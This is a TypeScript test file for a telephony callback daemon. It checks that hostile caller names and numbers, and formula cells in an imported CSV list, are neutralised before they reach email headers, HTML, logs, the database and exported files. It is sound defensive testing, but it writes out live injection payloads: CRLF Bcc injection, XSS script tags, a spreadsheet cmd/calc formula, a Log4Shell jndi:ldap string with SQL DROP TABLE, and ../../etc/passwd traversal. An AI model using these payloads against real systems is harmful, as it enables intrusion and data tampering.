/** Story 12: what hostile callers put into their number and name, and hostile lists into their cells, reaches neither headers, HTML, logs nor files alive. */
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { companyConfig, companyPrompts, QUIET } from '../support/company.ts'
import { type Daemon, startDaemon } from '../support/daemon.ts'
import { perezvon } from '../support/perezvon-command.ts'
import { rawCall } from '../support/raw-caller.ts'
import { OUR_NUMBER, startWorld, type World } from '../support/world.ts'

const CAMPAIGN = `
campaigns:
  orders:
    name: Заказ готов
    kind: reminder
    line: "${OUR_NUMBER}"
    trunk: provider
    hours: always
    script: [{ play: prompts/greeting }]`

let world: World
let daemon: Daemon

beforeAll(async () => {
  world = await startWorld()
  const flow = '    - play: prompts/menu\n    - hangup: normal'
  const config = companyConfig({ flow, more: CAMPAIGN })
  daemon = await startDaemon(world, { config, prompts: await companyPrompts(), env: QUIET })
})
afterAll(async () => {
  await daemon?.close()
  await world?.stop()
})

/** Header From as bytes; each is one call. The first six letters of a name tell the calls apart where the number does not. */
const HOSTILE: (string | Buffer)[] = [
  '"x" <sip:1%0d%0aBcc%3a%20victim%40example.ru@127.0.0.2>',
  '"x" <sip:1%0d%0aBcc:v@127.0.0.2>',
  '"Ivan%0d%0aBcc: victim@example.ru" <sip:+79120000011@127.0.0.2>',
  '"<img src=x onerror=alert(1)><script>alert(2)</script>" <sip:+79120000012@127.0.0.2>',
  `"=cmd|' /C calc'!A0" <sip:=1+2@127.0.0.2>`,
  '"\u001b[31mred\u001b[0m\u0007" <sip:+79120000014@127.0.0.2>',
  '"safe\u202egnp.exe" <sip:+79120000015@127.0.0.2>',
  '"{{ company }}{% assign y = 1 %}" <sip:+79120000016@127.0.0.2>',
  `"\${jndi:ldap://example.ru/a}'; DROP TABLE Call; --" <sip:+79120000017@127.0.0.2>`,
  `"${'Я'.repeat(300)}" <sip:+79120000018@127.0.0.2>`,
  `"../../etc/passwd" <sip:${'9'.repeat(79)}@127.0.0.2>`,
  Buffer.concat([
    Buffer.from('"'),
    Buffer.from([0xc8, 0xe2, 0xe0, 0xed, 0xff, 0xfe]),
    Buffer.from('" <sip:+79120000019@127.0.0.2>'),
  ]),
  '"Anonymous" <sip:anonymous@anonymous.invalid>',
]

it('one mail each, with the caller’s own headers, and nothing of it alive', async () => {
  const pbxPort = world.sipPort
  for (const from of HOSTILE) {
    const status = await rawCall({ address: '127.0.0.2', from, to: OUR_NUMBER, pbxPort })
    expect([from.toString(), status]).toEqual([from.toString(), 200])
  }
  const mails = await world.mail.until(
    () => (world.mail.mails.length >= HOSTILE.length ? world.mail.mails : undefined),
    40_000,
    'a mail for each',
  )
  expect(mails.length).toBe(HOSTILE.length)
  for (const { raw, parsed, to } of mails) {
    const head = raw.slice(0, raw.indexOf('\r\n\r\n'))
    expect(head).not.toMatch(/^(bcc|cc):/im)
    expect(to).toEqual(['sales@example.ru'])
    const html = String(parsed.html)
    expect(html).not.toMatch(/<img|<script|onerror=alert\(1\)>/i)
    for (const text of [html, parsed.text ?? '', parsed.subject ?? '']) {
      expect(text).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
    }
  }
  const log = await daemon.log()
  expect(log).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f\u202a-\u202e]/)
  expect(log).not.toMatch(/^Bcc:/m)
  // above debug no number stands whole
  const told = log.split('\n').filter((line) => line !== '' && !/^\S+ DEBUG /.test(line))
  expect(told.filter((line) => line.includes('+7912***0012'))).not.toEqual([])
  expect(told.filter((line) => /\+7912000001\d/.test(line))).toEqual([])

  const calls = await daemon.prisma.call.findMany()
  expect(calls.length).toBe(HOSTILE.length)
  for (const { caller, callerShown, callerName } of calls) {
    expect(caller ?? '+70000000000').toMatch(/^\+\d{8,15}$/)
    expect(Array.from(`${callerShown}${callerName ?? ''}`).length).toBeLessThanOrEqual(128)
    expect(`${callerShown}${callerName ?? ''}`).not.toMatch(/\p{Cc}|\p{Cf}/u)
  }
})

/** What a spreadsheet would carry out. */
const FORMULAS = ['=1+2', `=cmd|' /C calc'!A0`, '+1+cmd|x', '-2+3', '@SUM(A1)', '\t=1', '＝1+1']

it('a list with formulas for names comes back as text, in the results and among the refused rows', async () => {
  const list = join(world.dir, 'list.csv')
  const rows = FORMULAS.flatMap((name, i) => [`+7912555000${i};"${name}"`, `112;"${name}"`])
  await writeFile(list, ['Телефон;Имя', ...rows].join('\r\n'))
  expect(await perezvon(daemon, 'campaign', 'import', list, '--campaign', 'orders')).toMatchObject({ code: 6 })
  const results = join(world.dir, 'results.csv')
  expect(await perezvon(daemon, 'campaign', 'results', 'orders', '-o', results)).toMatchObject({ code: 0 })
  for (const file of [results, join(world.dir, 'list.refused.csv')]) {
    const cells = parse<Record<string, string>>(await readFile(file), { columns: true, bom: true, delimiter: ';' })
    const names = cells.map((row) => row['Имя'] ?? '')
    expect(names).toHaveLength(FORMULAS.length)
    for (const name of names) expect(name).toMatch(/^'/)
  }
})
